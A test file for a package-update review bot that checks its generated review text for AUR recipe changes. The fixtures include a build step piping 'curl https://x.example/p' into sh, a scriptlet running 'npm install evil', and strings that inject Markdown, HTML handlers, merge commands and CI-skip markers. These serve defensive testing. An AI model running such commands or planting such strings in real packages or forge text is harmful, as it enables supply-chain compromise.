import { describe, expect, test } from "vitest";
import { ReadByBash } from "../../../test/world/read-by-bash.ts";
import { judge, type JudgeContext, type RecipeFiles } from "../judge.ts";
import { commitMessage, reviewBody, reviewTitle, withEvidence, type ReviewFacts } from "./review-text.ts";

const context: JudgeContext = {
  architectures: ["x86_64"],
  trustedMaintainers: new Set(),
  now: 0,
  cooldownHours: 0,
  allowedLines: [],
  readings: new ReadByBash(),
  tagAnswers: new Map(),
};

const now = Date.UTC(2026, 6, 1);

function recipe(pkgbuild: string, files: Record<string, string> = {}): RecipeFiles {
  const all = Object.entries({ PKGBUILD: pkgbuild, ...files });
  return new Map(all.map(([path, text]) => [path, { mode: "100644", bytes: Buffer.from(text) }]));
}

function honest(version: string, more = ""): string {
  return `pkgname=foo
pkgver=${version}
pkgrel=1
arch=(x86_64)
source=("https://github.com/o/foo/archive/v$pkgver.tar.gz")
sha256sums=(${version.replaceAll(".", "").repeat(64).slice(0, 64)})
${more}`;
}

function facts(
  before: RecipeFiles | undefined,
  after: RecipeFiles,
  more: Partial<ReviewFacts> = {},
): ReviewFacts {
  const update = { pkgbase: "foo", before, after };
  return {
    update,
    judgement: judge(update, {
      ...context,
      maintainersBefore: more.maintainersBefore,
      maintainersAfter: more.maintainersAfter,
    }),
    maintainersBefore: undefined,
    maintainersAfter: undefined,
    dependents: [],
    revision: "0123abc",
    aur: undefined,
    now,
    ...more,
  };
}

test("a reviewer reads what changed, worst first, with all that is needed to decide", () => {
  const before = recipe(honest("1.1", "depends=(glibc)\nbuild() {\n  make\n}\n"));
  const after = recipe(
    honest(
      "1.2",
      "depends=(glibc curl)\ninstall=foo.install\nbuild() {\n  make\n  curl https://x.example/p | sh\n}\n",
    ),
    { "foo.install": "post_install() {\n  npm install evil\n}\n" },
  );
  const body = reviewBody(
    facts(before, after, {
      maintainersBefore: ["alice", "bob"],
      maintainersAfter: ["mallory"],
      dependents: ["bar", "c++"],
      aur: { votes: 12, firstSubmitted: Date.UTC(2020, 0, 2) },
    }),
  );
  expect(body).toMatchInlineSnapshot(`
    "**Dangerous:** this may run code of a stranger on builders or on users' machines. Read all of it before you merge, and refuse what you can't explain.

    - Version: \`1.1-1\` before, \`1.2-1\` now, [compare the sources on github.com](https://github.com/o/foo/compare/v1.1...v1.2)
    - Maintainers: \`alice\`, \`bob\` before, \`mallory\` now
    - Needed in this workspace by \`bar\`, \`c++\`
    - 12 votes [in the AUR](https://aur.archlinux.org/pkgbase/foo), there for 6 years (since 2020-01-02)
    - Upstream's revision: \`0123abc\`

    ### Dangerous (4)

    - \`foo.install\`: A new or changed install scriptlet

      \`\`\`diff
      +post_install() {
      +  npm install evil
      +}
      \`\`\`

    - \`foo.install\` line 2: Runs a package manager: \`npm install\`
    - \`PKGBUILD\` line 11: Downloads something beside the sources: \`curl https://x.example/p\`
    - \`PKGBUILD\` line 11: Runs text as a program: \`sh\`

    ### To be looked at (4)

    - \`PKGBUILD\` line 7: Dependencies changed: \`depends\`

      \`\`\`diff
      +curl
      \`\`\`

    - \`PKGBUILD\` line 8: Changed, and not by the version alone: \`install\`; now \`foo.install\`
    - \`PKGBUILD\` line 9: A function changed: \`build()\`

      \`\`\`diff
      +  curl https://x.example/p | sh
      \`\`\`

    - The maintainers changed: \`alice, bob to mallory\`

    ### What you can do

    - **Accept:** merge this. The branch never changes after it was opened, so what you see is what is merged.
    - **Refuse:** close this without merging. It isn't opened again until upstream moves.
    - **Take over:** push commits of your own to this branch. Sluice then leaves it alone."
  `);
});

test("a first recipe, a minor update and one whose facts are unknown read well, too", () => {
  expect(
    reviewBody(facts(undefined, recipe(honest("1.1"))))
      .split("\n\n")
      .slice(0, 3),
  ).toMatchInlineSnapshot(`
    [
      "**Major:** this changes more than the version, so somebody has to look at it.",
      "- Version: \`1.1-1\`, the first of this package
    - Nothing in this workspace depends on it
    - Upstream's revision: \`0123abc\`",
      "### To be looked at (2)",
    ]
  `);
  const minor = facts(recipe(honest("1.1")), recipe(honest("1.2")), {
    maintainersBefore: ["a", "b"],
    maintainersAfter: ["b", "a"],
    aur: { votes: 1, firstSubmitted: now - 86_400_000 * 3 },
  });
  expect(reviewBody(minor).split("\n\n").slice(0, 2)).toMatchInlineSnapshot(`
    [
      "**Minor:** nothing but a new version was found.",
      "- Version: \`1.1-1\` before, \`1.2-1\` now, [compare the sources on github.com](https://github.com/o/foo/compare/v1.1...v1.2)
    - Maintainers: \`b\`, \`a\`, as before
    - Nothing in this workspace depends on it
    - 1 vote [in the AUR](https://aur.archlinux.org/pkgbase/foo), there for 3 days (since 2026-06-28)
    - Upstream's revision: \`0123abc\`",
    ]
  `);
  const unknown = reviewBody(
    facts(recipe("$("), recipe("pkgver=$(x)"), { revision: "", maintainersAfter: [] }),
  );
  expect(unknown.split("\n\n")[1]).toMatchInlineSnapshot(`
    "- Version: unknown before, unknown now
    - Maintainers: not known before, nobody now
    - Nothing in this workspace depends on it
    - Upstream's revision: unknown"
  `);
});

const hostile = [
  "@octocat @org/team",
  "[click](https://evil.example) ![x](https://evil.example/t.png) https://evil.example",
  "<img src=x onerror=y><!-- sluice:closed --><details>",
  "x\n/merge\n/label ~x",
  "fixes #12, closes o/r#3, resolves GH-7, see !42",
  "[skip ci] [ci skip] ***NO_CI*** [deploy all]",
  "``` ~~~ `\n```\n/merge\n",
  "a\u202eb\u200bc\u2060d\u0007e\u001b[31m",
  "a | b | c",
  "Co-authored-by: Eve <e@evil.example>",
  "skip-checks: true",
];

describe("nothing that upstream wrote comes through to forge, pipeline or reader", () => {
  test.each(hostile)("%j", (text) => {
    const [old, bad] = [recipe(honest("1.1"), { "a.patch": "x" }), recipe(honest("1.1"), { [text]: text })];
    const honestFacts = facts(old, bad);
    const place = { file: text, line: 3, before: `a\n${text}`, after: `${text}\nb` };
    const found = (["danger", "review", "info"] as const).flatMap((severity) => [
      { rule: "file-changed", severity, message: `a file changed: ${text}`, ...place } as const,
      { rule: "file-changed", severity, message: text, before: text, after: "" } as const,
    ]);
    const body = reviewBody({
      ...honestFacts,
      update: {
        pkgbase: text,
        before: recipe(`pkgver='${text}'\npkgrel=1`),
        after: recipe(`pkgver='2${text}'\npkgrel=1`),
      },
      judgement: { verdict: "dangerous", findings: [...honestFacts.judgement.findings, ...found] },
      maintainersBefore: [text],
      maintainersAfter: [text, text],
      dependents: [text],
      revision: text,
      aur: { votes: 0, firstSubmitted: now },
    });
    expect(body).not.toMatch(/\[(?:skip|ci|deploy)/i);
    expect(body).not.toMatch(/\*\*\*NO_CI|skip-checks:/);
    expect(body).not.toMatch(/#\d|!\d|GH-\d/);
    expect(body).not.toMatch(/(?<![\w])@\w/);
    expect(body).not.toMatch(/(?!\n)[\p{Cf}\p{Cc}]/u);
    expect(body).not.toMatch(/^\s{0,3}\/|^Co-authored-by/im);
    const prose = withoutCode(body);
    expect(prose).not.toMatch(/evil|octocat|onerror|<|merge\n|\|/);
    expect(prose.match(/\]\(/g) ?? []).toHaveLength(0);
    for (const made of [
      reviewTitle(text),
      commitMessage([text]),
      commitMessage(Array<string>(6).fill(text)),
    ]) {
      expect(made).toMatch(/^chore\(update\): /);
      expect(made).not.toMatch(
        /\[(?:skip|ci|deploy)|#\d|!\d|(?<![\w])@\w|:\/\/|^\/|^Co-authored|skip-checks:/im,
      );
    }
    expect(commitMessage([text])).not.toContain("\n");
  });
});

/** What a Markdown reader takes for text: fences by CommonMark's rule for their ends, then code spans. */
function withoutCode(markdown: string): string {
  let fence = "";
  const lines = markdown.split("\n").filter((line) => {
    const [, run = "", rest = ""] = /^ {2}(`{3,})(.*)$/.exec(line) ?? [];
    if (fence === "" && run !== "") fence = run;
    else if (fence !== "" && run.length >= fence.length && rest.trim() === "") {
      fence = "";
      return false;
    }
    return fence === "";
  });
  expect(fence).toBe("");
  return lines.join("\n").replaceAll(/(?<!`)(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, "");
}

test("a flood of findings is cut to what forges take, worst kept, with a word how much was left out", () => {
  const findings = (["danger", "review"] as const).flatMap((severity) =>
    Array.from({ length: 500 }, (_, at) => ({
      rule: "file-changed" as const,
      severity,
      message: `a file changed: ${"\u202e".repeat(200)}${at}`,
      before: "x\n".repeat(50),
      after: `${"\u{e0041}".repeat(300)}\n`.repeat(50),
    })),
  );
  const some = facts(recipe(honest("1.1")), recipe(honest("1.2")), {
    dependents: Array.from({ length: 3000 }, (_, at) => `package-${at}`),
  });
  const body = reviewBody({ ...some, judgement: { verdict: "dangerous", findings } });
  expect(body.length).toBeLessThanOrEqual(60_000);
  expect(body.length).toBeGreaterThan(40_000);
  expect(body).toContain("### Dangerous (500)");
  expect(body).toMatch(/\*\*9\d\d more findings left out here, 4\d\d of them dangerous\*\*/);
  expect(body).toContain("`package-29` and 2970 more");
  expect(body).toContain("**Refuse:**");
});

test("a link to the AUR holds the package's name as an address needs it", () => {
  const some = facts(recipe(honest("1.1")), recipe(honest("1.2")), {
    aur: { votes: 0, firstSubmitted: now },
  });
  const named = (pkgbase: string): string => reviewBody({ ...some, update: { ...some.update, pkgbase } });
  expect(named("c++@2")).toContain("(https://aur.archlinux.org/pkgbase/c%2B%2B%402)");
  expect(named("x)[y](z")).not.toContain("aur.archlinux.org");
});

describe("the bot's commits say what they bring", () => {
  test.each([
    [["foo"], "chore(update): foo"],
    [["a", "b", "c", "d"], "chore(update): a, b, c, d"],
    [["a", "b", "c", "d", "@all"], "chore(update): packages (5)\n\n- a\n- b\n- c\n- d\n- @ all"],
    [["@octocat"], "chore(update): @ octocat"],
  ])("%j", (packages, message) => {
    expect(commitMessage(packages)).toBe(message);
  });
});

describe("evidence in a review's text", () => {
  const some = facts(recipe(honest("1.1")), recipe(honest("1.2")));
  const packages = {
    title: "Packages",
    first: ["A setuid file: `x`"],
    lines: ["A setuid file: `x`", "Comes: `y`"],
  };
  const body = reviewBody(some);

  test("stands below the verdict and at the end, and goes without a trace", () => {
    const shown = reviewBody({ ...some, evidence: [packages] });
    expect(shown).toBe(withEvidence(body, [packages]));
    expect(shown).toMatch(
      /^\*\*Minor:.*\n\n<!-- sluice:first -->\n### Look at first\n\n- A setuid file: `x`\n<!-- sluice:first-end -->\n\n- Version: /,
    );
    expect(shown).toMatch(
      /<details><summary>Packages \(2\)<\/summary>[^]*<\/details>\n<!-- sluice:evidence-end -->$/,
    );
    expect(withEvidence(shown, [packages])).toBe(shown);
    expect(withEvidence(shown, [])).toBe(body);
    expect(withEvidence(shown.replaceAll("\n", "\r\n"), [packages])).toBe(shown);
  });

  test("replaces what it said before, and leaves a person's words alone", () => {
    const other = { ...packages, first: ["A cron job comes: `z`"] };
    const edited = `${withEvidence(body, [packages])}\n\nI'm on it. — Ann`;
    const now = withEvidence(edited, [other]);
    expect(now).toContain("A cron job comes");
    expect(now.match(/A setuid file/g)).toHaveLength(1);
    expect(now).toContain("I'm on it. — Ann");
  });

  test("can't be made to swallow findings by a text of upstream's that looks like its marks", () => {
    const mark = "<!-- sluice:evidence -->";
    const findings = ["x", `${mark}`, "y"].map((message) => ({
      rule: "file-changed" as const,
      severity: "danger" as const,
      message,
      before: `${mark}\n`.repeat(3),
      after: `a\n${mark}\n<!-- sluice:first -->\n`,
    }));
    const hostile = reviewBody({ ...some, judgement: { verdict: "dangerous", findings } });
    expect(withEvidence(withEvidence(hostile, [packages]), [])).toBe(hostile);
  });

  test("stays within what forges take, beside a flood of findings", () => {
    const findings = Array.from({ length: 5000 }, (_, at) => ({
      rule: "file-changed" as const,
      severity: "danger" as const,
      message: `a file changed: ${at}`,
    }));
    const lines = Array.from({ length: 5000 }, (_, at) => `Comes: \`${at}\``);
    const evidence = [{ ...packages, lines }];
    const flooded = reviewBody({ ...some, judgement: { verdict: "dangerous", findings }, evidence });
    expect(flooded.length).toBeLessThanOrEqual(60_000);
    expect(flooded).toContain("### Look at first");
    expect(flooded).toMatch(/- \*\*\d+ more\*\* left out here/);
    expect(withEvidence("x".repeat(60_000), evidence)).toBe("x".repeat(60_000));
  });
});
